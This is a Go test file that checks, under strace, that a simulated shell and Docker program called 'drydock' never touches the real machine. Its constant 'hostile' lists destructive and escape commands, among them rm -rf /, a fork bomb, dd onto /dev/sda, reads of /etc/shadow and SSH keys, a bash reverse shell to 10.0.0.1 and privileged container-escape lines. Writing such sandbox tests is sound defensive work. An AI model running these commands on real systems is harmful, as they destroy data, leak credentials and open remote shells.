package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// hostile are lines that on a real machine would write files, start processes,
// open sockets and reach what lies outside.
const hostile = `echo escaped > /tmp/drydock-escaped
echo escaped > /etc/drydock-escaped; cat /etc/shadow /proc/self/environ /root/.ssh/id_rsa
rm -rf / ; rm -rf --no-preserve-root /
:(){ :|:& };:
while :; do :; done
^C
yes | head -c 100000 > big; cat /dev/zero > zeros
^C
curl http://example.com/; wget -O- http://127.0.0.1:80/; ping -c 1 127.0.0.1; nc 127.0.0.1 22
exec 3<>/dev/tcp/127.0.0.1/22; bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
docker run --rm -v /:/host --privileged --pid host --network host alpine sh -c 'echo x > /host/tmp/drydock-escaped; kill -9 1; chroot /host sh'
docker run --rm alpine sh -c 'cat /proc/1/root/etc/passwd; nsenter -t 1 -m -u -i -n sh; mount /dev/sda1 /mnt; mknod /dev/x b 8 0; insmod evil'
docker run -d -p 8080:80 nginx; docker exec -it $(docker ps -lq) sh
python3 -c 'import os; os.system("touch /tmp/drydock-escaped")'; perl -e 'unlink "/etc/passwd"'
tar cf - / | tar xf - -C /tmp; ln -s /../../../../tmp /l; echo x > /l/drydock-escaped
$(printf '\x2fbin\x2fsh') -c 'touch /tmp/drydock-escaped'; eval "$(cat /dev/urandom | head -c 2000)"
kill -9 -1; kill -STOP 1; reboot; halt; dd if=/dev/zero of=/dev/sda bs=1M count=10
docker build - < /dev/null; docker cp /etc/passwd nosuch:/; docker save alpine > a.tar; docker load < a.tar
`

// opened are the calls that would reach the real machine: a file for writing,
// a process, a socket, a change of files.
var opened = regexp.MustCompile(`^(?:\[pid\s+\d+\]\s+)?(?:\d+\s+)?(open|openat|openat2|creat|execve|execveat|fork|vfork|socket|connect|bind|listen|accept|unlink|unlinkat|rename|renameat|renameat2|mkdir|mkdirat|link|linkat|symlink|symlinkat|mknod|mknodat|chmod|fchmod|fchmodat|chown|fchown|fchownat|truncate|ftruncate|mount|umount2|kill|ptrace|reboot|chroot|setuid|setgid)\((.*)$`)

// TestNothingEscapes plays a hostile session under strace: beside what the
// program itself does when it starts, no file is opened for writing, no process
// started, no socket made.
func TestNothingEscapes(t *testing.T) {
	strace, err := exec.LookPath("strace")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("strace is needed for this proof")
		}
		t.Skip("strace is not installed: the proof that nothing escapes is not made")
	}
	dir := t.TempDir()
	binary := filepath.Join(dir, "drydock")
	if out, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	script, trace := filepath.Join(dir, "hostile"), filepath.Join(dir, "trace")
	if err := os.WriteFile(script, []byte(hostile), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(strace, "-f", "-qq", "-s", "200", "-o", trace, "-e", "trace=file,process,network,desc,signal", binary, "play", script)
	cmd.Dir = dir
	var said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &said, &said
	if err := cmd.Run(); err != nil {
		if strings.Contains(said.String(), "ptrace") && os.Getenv("CI") == "" {
			t.Skip("strace may not trace here: " + said.String())
		}
		t.Fatalf("%v: %s", err, said.String())
	}
	if !strings.Contains(said.String(), "drydock") && said.Len() < 1000 {
		t.Fatalf("the session was not played: %s", said.String())
	}
	calls, err := os.ReadFile(trace)
	if err != nil {
		t.Fatal(err)
	}
	started := 0
	for _, line := range strings.Split(string(calls), "\n") {
		m := opened.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		name, args := m[1], m[2]
		switch {
		case name == "execve" && started == 0 && strings.Contains(args, binary):
			started++
		case strings.HasPrefix(name, "open") && !strings.Contains(args, "O_WRONLY") && !strings.Contains(args, "O_RDWR") && !strings.Contains(args, "O_CREAT"):
		case name == "kill" && strings.Contains(args, "SIGURG"): // the Go runtime preempts its own threads
		default:
			t.Errorf("the program calls %s(%s", name, args)
		}
	}
	if started != 1 {
		t.Errorf("%d programs were started, want the one itself", started)
	}
	if _, err := os.Stat("/tmp/drydock-escaped"); err == nil {
		t.Error("a file was written outside of the simulation")
	}
}
